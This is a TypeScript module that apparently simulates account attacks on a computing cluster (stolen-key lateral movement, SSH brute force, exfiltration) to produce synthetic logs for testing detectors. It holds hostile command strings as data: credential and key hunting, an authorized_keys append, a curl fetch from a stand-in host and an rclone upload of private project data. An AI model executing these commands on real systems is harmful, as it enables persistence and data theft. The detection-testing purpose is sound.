/** Attacks on accounts: a stolen key that wanders over the log-in nodes, a password guessed. Knows no detector. */
import { talk } from "../life/network.ts";
import { command, home, logIn, logOut } from "../life/sessions.ts";
import { acceptedPassword, failedPassword, invalidUser, logLine, sessionOpened } from "../records/auth.ts";
import { execLine, exitLine, fileWrite } from "../records/tetragon.ts";
import { connValues, noticeValues, sshValues, zeekUid } from "../records/zeek.ts";
import { hour, minute, second } from "../stamps.ts";
import { lair, misuse, quiet, type Scenario, typing, victim } from "./scenario.ts";

const stolenKey: Scenario = {
  name: "stolen_key",
  summary: "a user's key from a network never seen, hops over the log-in nodes, forty jobs",
  expected: {
    alert: true,
    entity: "user",
    attack: ["T1078", "T1021.004", "T1098.004"],
    about:
      "One chain about the user: the new network, the hops from log-in node to log-in node, the added key, and the forty jobs that followed.",
  },
  *play(world, incident, chance) {
    const user = victim(world, incident, chance, (one) => one.sessions > 0.5);
    const from = lair(incident, chance);
    const [entry, ...others] = world.site.logins;
    for (const host of world.site.logins) incident.logins.add(host.name);
    const first = logIn(world, user, entry!, { address: from.address, port: entry!.port() }, incident);
    yield* typing(
      world,
      first.shell,
      chance,
      incident,
      [
        "/usr/bin/id",
        "/usr/bin/w",
        "/usr/bin/last -n 20",
        "/usr/bin/squeue --me",
        "/usr/bin/sinfo -s",
        "/usr/bin/cat /etc/passwd",
        `/usr/bin/cat ${home(user)}/.ssh/config`,
        `/usr/bin/ls -la ${home(user)}/.ssh`,
      ],
      9 * second,
    );
    const editor = command(world, first.shell, "/usr/bin/tee", `-a ${home(user)}/.ssh/authorized_keys`, incident);
    world.emit("tetragon", fileWrite(editor, world.now, `${home(user)}/.ssh/authorized_keys`), incident);
    // from each on to the next, and back again at the end
    const chain = [first];
    for (const host of others.slice(0, 6)) {
      yield world.now + Math.round(chance.between(20, 70) * second);
      const last = chain.at(-1)!;
      const ssh = last.shell.child({ binary: "/usr/bin/ssh", args: `-A ${host.name}`, start: world.now });
      world.emit("tetragon", execLine(ssh, world.now), incident);
      const hop = logIn(world, user, host, { address: last.host.address, port: last.host.port() }, incident);
      chain.push(hop);
      yield* typing(
        world,
        hop.shell,
        chance,
        incident,
        ["/usr/bin/id", "/usr/bin/who", "/usr/bin/ps aux", "/usr/bin/find / -name id_* -not -path /proc/*"],
        8 * second,
      );
    }
    for (const hop of chain.slice(1).reverse()) logOut(world, chance, hop, { sent: 0, received: 0 });
    yield* typing(
      world,
      first.shell,
      chance,
      incident,
      [
        "/usr/bin/mkdir -p /scratch/.w",
        "/usr/bin/curl -fsSL http://get.toolbox.example/w.tgz -o /scratch/.w/w.tgz",
        "/usr/bin/tar xzf /scratch/.w/w.tgz -C /scratch/.w",
        "/usr/bin/sbatch --array=1-40 /scratch/.w/go.sh",
      ],
      20 * second,
    );
    misuse(world, incident, user, {
      name: "go",
      folder: "/scratch/.w",
      request: { nodes: 1, cores: 4, gpus: 0, memory_gb: 4, lasts: Math.round(chance.between(1, 3) * hour), tasks: 40 },
      program: { binary: "/scratch/.w/worker", args: "--quiet" },
      load: () => ({ ...quiet, cpu: 0.95, rss_gb: 1 }),
    });
    yield world.now + Math.round(chance.between(5, 20) * minute);
    logOut(world, chance, first, { sent: 220_000, received: 1_400_000 });
  },
};

const names = ["root", "admin", "test", "guest", "ubuntu", "oracle", "postgres", "hadoop", "slurm", "jenkins"];

const bruteForce: Scenario = {
  name: "ssh_brute_force",
  summary: "some hundreds of passwords tried from one address, and one of them is right",
  expected: {
    alert: true,
    entity: "source.ip",
    attack: ["T1110.001"],
    about: "Password guessing from one address, with a success at its end.",
  },
  *play(world, incident, chance) {
    const user = victim(world, incident, chance);
    const from = lair(incident, chance);
    const host = chance.pick(world.site.logins);
    incident.logins.add(host.name);
    const tries = chance.whole(150, 400);
    for (let i = 0; i < tries; i++) {
      yield world.now + Math.round(chance.exponential(1.6 * second));
      const peer = { address: from.address, port: chance.whole(1_024, 65_535) };
      const name = chance.happens(0.3) ? user.name : chance.pick(names);
      const known = name === user.name || name === "root";
      const pid = host.pid();
      if (!known) world.emit("auth", logLine(host, world.now, "sshd", pid, invalidUser(name, peer)), incident);
      world.emit("auth", logLine(host, world.now, "sshd", pid, failedPassword(name, peer, known)), incident);
      const flow = { from: peer.address, fromPort: peer.port, to: host.address, port: 22 };
      const uid = zeekUid(chance);
      world.zeek("ssh", world.now, sshValues(uid, flow, false, 1, "SSH-2.0-Go"), incident);
      world.zeek(
        "conn",
        world.now,
        connValues({ ...flow, uid, proto: "tcp", service: "ssh", duration: 1.9, sent: 1_600, received: 2_200 }),
        incident,
      );
      // Zeek's script for guessing speaks after thirty
      if (i === 30)
        world.zeek(
          "notice",
          world.now,
          noticeValues(
            "SSH::Password_Guessing",
            `${from.address} appears to be guessing SSH passwords (seen in 30 connections).`,
            `Sampled servers:  ${host.address}`,
            { from: from.address },
          ),
          incident,
        );
    }
    yield world.now + 3 * second;
    const peer = { address: from.address, port: chance.whole(1_024, 65_535) };
    const pid = host.pid();
    world.emit("auth", logLine(host, world.now, "sshd", pid, acceptedPassword(user.name, peer)), incident);
    world.emit("auth", logLine(host, world.now, "sshd", pid, sessionOpened("sshd", user.name, user.uid)), incident);
  },
};

const exfiltration: Scenario = {
  name: "exfiltration",
  summary: "a project's data copied to somebody's storage outside, over hours",
  expected: {
    alert: true,
    entity: "user",
    attack: ["T1567.002", "T1048"],
    about: "Hundreds of gigabytes leave a log-in node for an address that nobody used before.",
  },
  *play(world, incident, chance) {
    const user = victim(world, incident, chance);
    const store = lair(incident, chance, "s3.keepsafe.example");
    const host = chance.pick(world.site.logins);
    incident.logins.add(host.name);
    const login = logIn(world, user, host, { address: `${user.networks[0]}.${10 + (user.uid % 200)}`, port: host.port() }, incident);
    yield* typing(
      world,
      login.shell,
      chance,
      incident,
      ["/usr/bin/du -sh /lustre/projects", "/usr/bin/tar cf /scratch/out.tar /lustre/projects/private"],
      40 * second,
    );
    const rclone = login.shell.child({
      binary: "/usr/bin/rclone",
      args: "copy /scratch/out.tar keepsafe:drop --transfers 16",
      start: world.now,
    });
    world.emit("tetragon", execLine(rclone, world.now), incident);
    for (let i = 0; i < 24; i++) {
      talk(world, chance, {
        from: host,
        process: rclone,
        to: store,
        port: 443,
        lasts: 280,
        sent: chance.between(4e9, 14e9),
        received: 4e6,
        client: "go",
        silent: i > 0,
        incident,
      });
      yield world.now + 5 * minute;
    }
    world.emit("tetragon", exitLine(rclone, world.now), incident);
    logOut(world, chance, login, { sent: 40_000, received: 200_000 });
  },
};

export const accounts: readonly Scenario[] = [stolenKey, bruteForce, exfiltration];
